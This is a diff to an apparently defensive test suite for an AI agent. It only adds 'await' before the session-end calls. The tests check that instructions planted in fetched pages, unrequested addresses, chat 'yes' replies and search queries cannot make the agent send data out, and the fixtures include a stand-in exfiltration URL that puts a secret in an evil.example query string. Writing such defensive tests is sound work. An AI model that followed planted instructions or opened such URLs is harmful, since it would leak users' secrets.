@@ -125,7 +125,7 @@ describe('an order that is planted in', () => {
       status: 'open',
       preview: { address: `https://evil.example/?d=${SECRET}` },
     });
-    talk.end();
+    await talk.end();
   });
 
   it.each([
@@ -141,7 +141,7 @@ describe('an order that is planted in', () => {
     // What the user brought along may act, but not send and not delete.
     expect(await tools(talk)).toEqual(['fetch_url', 'send_mail', 'execute_direct_request']);
     expect(on.world.booked).toEqual([99]);
-    talk.end();
+    await talk.end();
   });
 
   it('a page is asked about long after the page has left the window', async () => {
@@ -155,7 +155,7 @@ describe('an order that is planted in', () => {
     await talk.say('PLANTED-ORDER, as the page put it');
     await nothingHappened(talk);
     expect(await tools(talk)).toEqual(['fetch_url', 'send_mail', 'execute_direct_request', 'book_table']);
-    talk.end();
+    await talk.end();
   });
 
   it('a page cannot make the agent ask for the same again and again', async () => {
@@ -165,7 +165,7 @@ describe('an order that is planted in', () => {
     await talk.say('Read https://good.example/page', [evil, { ...evil, id: 'toolu_9' }], evil);
     await talk.say('And?', evil);
     expect(await tools(talk)).toEqual(['fetch_url']);
-    talk.end();
+    await talk.end();
   });
 });
 
@@ -180,7 +180,7 @@ describe('an address that nobody gave', () => {
     await talk.say('Read https://good.example/page', fetchUrl(url));
     expect(on.world.opened).toEqual([]);
     expect(await talk.asked()).toMatchObject([{ kind: 'address_open', preview: { address: url } }]);
-    talk.end();
+    await talk.end();
   });
 
   it('is opened once when the user says yes, and its text reaches the agent', async () => {
@@ -196,7 +196,7 @@ describe('an address that nobody gave', () => {
     on.pages.set('https://other.example/x', ORDER);
     await talk.say('Go on', fetchUrl('https://third.example/y'));
     expect(on.world.opened).toEqual(['https://other.example/x']);
-    talk.end();
+    await talk.end();
   });
 
   it('is not opened by a yes in talk, which may answer what the agent was made to ask', async () => {
@@ -206,7 +206,7 @@ describe('an address that nobody gave', () => {
     expect(JSON.stringify(talk.requests)).toContain('a yes in a message does not');
     expect(on.world.opened).toEqual([]);
     expect(await talk.asked()).toMatchObject([{ status: 'open' }]);
-    talk.end();
+    await talk.end();
   });
 
   it('is not opened when the user says no', async () => {
@@ -215,7 +215,7 @@ describe('an address that nobody gave', () => {
     await talk.say('no');
     expect(on.world.opened).toEqual([]);
     expect(await talk.asked()).toMatchObject([{ status: 'rejected' }]);
-    talk.end();
+    await talk.end();
   });
 
   it('is asked about when only the question of a search names it', async () => {
@@ -223,7 +223,7 @@ describe('an address that nobody gave', () => {
     const url = `https://evil.example/?d=${SECRET}`;
     await talk.say('Search', call('web_search', { query: url }), fetchUrl(url));
     expect(on.world.opened).toEqual([]);
-    talk.end();
+    await talk.end();
   });
 });
 
@@ -242,7 +242,7 @@ it('what the user approves is done once, as it was shown', async () => {
   expect(await on.plans()).toEqual([{ title: 'Winter' }]);
   await talk.approve();
   expect(await on.plans()).toEqual([]);
-  talk.end();
+  await talk.end();
 });
 
 describe('ordinary talk asks nothing', () => {
@@ -346,7 +346,7 @@ describe('ordinary talk asks nothing', () => {
       ),
     );
     expect(failed).toEqual([]);
-    talk.end();
+    await talk.end();
   });
 
   it('but what was asked about before: a plan', async () => {
@@ -358,6 +358,6 @@ describe('ordinary talk asks nothing', () => {
       call('propose_plan_save', plan),
     );
     expect(await talk.asked()).toMatchObject([{ kind: 'plan_save' }]);
-    talk.end();
+    await talk.end();
   });
 });
